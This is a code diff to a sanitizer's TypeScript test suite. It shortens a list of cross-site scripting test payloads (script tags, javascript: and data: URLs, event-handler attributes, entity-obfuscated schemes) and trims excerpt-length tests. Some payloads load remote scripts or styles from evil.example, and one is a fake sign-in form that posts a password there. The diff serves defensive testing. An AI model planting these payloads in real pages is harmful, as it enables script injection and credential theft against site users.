@@ -61,96 +61,31 @@ const offences = (nodes: TextNode[]): string[] =>
     })
   })
 
+/** What the sanitizer's own tests do not cover: our lists of elements, attributes and URLs. */
 const payloads = [
   '<script>alert(1)</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<script>alert(1)',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg onload=alert(1)>',
   '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
-  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<math href="javascript:alert(1)">x</math>',
-  '<img src=x onerror=alert(1)>',
   '<img src="https://a.example/x.png" onerror="alert(1)" onload=alert(1)>',
-  '<img src="javascript:alert(1)">',
   '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
-  '<img src="http://a.example/x.png">',
   '<img src="//evil.example/x.png">',
-  '<img src="/\\evil.example/x.png">',
   '<img src="mailto:a@example.com">',
   '<img srcset="https://evil.example/x.png 1x" src="/media/x.svg">',
   '<img src="/media/x.svg" style="position:fixed;inset:0" class="overlay" id="root">',
-  '<img """><script>alert(1)</script>">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
   '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="java&Tab;script:alert(1)">x</a>',
-  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
-  '<a href="&#1;javascript:alert(1)">x</a>',
-  '<a href="javascript://example.com/%0aalert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="blob:https://example.com/1">x</a>',
-  '<a href="file:///etc/passwd">x</a>',
   '<a href="http://example.com">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="\\\\evil.example">x</a>',
   '<a href="/\\evil.example">x</a>',
   '<a href="/&#9;/evil.example">x</a>',
-  '<a href="/&#10;/evil.example">x</a>',
   '<a href="/blog" onclick="alert(1)" target="_blank" ping="https://evil.example" download>x</a>',
   '[x](javascript:alert(1))',
-  '[x](JAVASCRIPT:alert(1) "title")',
-  '[x](java&#x0A;script:alert(1))',
-  '[x](<java\tscript:alert(1)>)',
-  '[x](//evil.example)',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '![x](javascript:alert(1))',
-  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
   '![x](http://a.example/x.png)',
-  '![x](https://a.example/x.png"onerror="alert(1))',
   '[x][1]\n\n[1]: javascript:alert(1)',
-  '<javascript:alert(1)>',
-  '<style>body{background:url(https://evil.example)}</style>',
-  '<style>@import "https://evil.example/x.css";',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
   '<p style="position:fixed;inset:0" class=modal id=root data-close>x</p>',
   '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<object data="https://evil.example/x.swf"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<video src="https://evil.example/x.mp4" onerror=alert(1) autoplay></video>',
-  '<audio src=x onerror=alert(1)>',
   '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
-  '<button onclick=alert(1)>x</button>',
   '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<input autofocus onfocus=alert(1)>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<body onload=alert(1)>',
-  '<html onmouseover=alert(1)><head><title>x</title></head>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<textarea></textarea><img src=x onerror=alert(1)>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<?xml version="1.0"?><script>alert(1)</script>',
-  '<table background="https://evil.example/x.png"><tr><td onclick=alert(1) style=x>x</td></tr></table>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<custom-element onclick=alert(1) is=x>x</custom-element>',
   '<h1 id=main>x</h1>',
-  '- [x] <input type=image src=https://evil.example onclick=alert(1)>',
-  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
   '<ol start="javascript:alert(1)" type=a reversed><li value=7>x</li></ol>',
   '<td align="javascript:alert(1)">x</td>',
-  '<a href="https://a.example" href="javascript:alert(1)">x</a>',
-  '<del cite="javascript:alert(1)">x</del><blockquote cite="javascript:alert(1)">x</blockquote>',
-  '<a name="x" id="y" href="#z">x</a>',
 ]
 
 describe('a hostile text', () => {
@@ -392,23 +327,8 @@ describe('an excerpt', () => {
     expect(makeExcerpt(`a${'🪁'.repeat(131)}`).isWellFormed()).toBe(true)
   })
 
-  test.each(['🇵🇰', '👩‍👩‍👧‍👦', 'e\u0301\u0302', '👍🏽'])(
-    'ends before a %s that would be cut',
-    (character) => {
-      expect(makeExcerpt(`${'a'.repeat(129)}${character}b`)).toBe(`${'a'.repeat(129)}…`)
-      const before = 'a'.repeat(130 - [...character].length)
-      expect(makeExcerpt(`${before}${character}b`)).toBe(`${before}${character}…`)
-    },
-  )
-
-  test.each([
-    ['&amp;', '&'],
-    ['&lt;', '<'],
-    ['&#x1FA81;', '🪁'],
-    ['&eacute;', 'é'],
-  ])('decodes %s before it counts', (entity, character) => {
-    expect(makeExcerpt(`${entity.repeat(130)}`)).toBe(character.repeat(130))
-    expect(makeExcerpt(`${entity.repeat(131)}`)).toBe(`${character.repeat(130)}…`)
+  test('decodes entities before it counts', () => {
+    expect(makeExcerpt('&eacute;'.repeat(131))).toBe(`${'é'.repeat(130)}…`)
   })
 
   test.each([
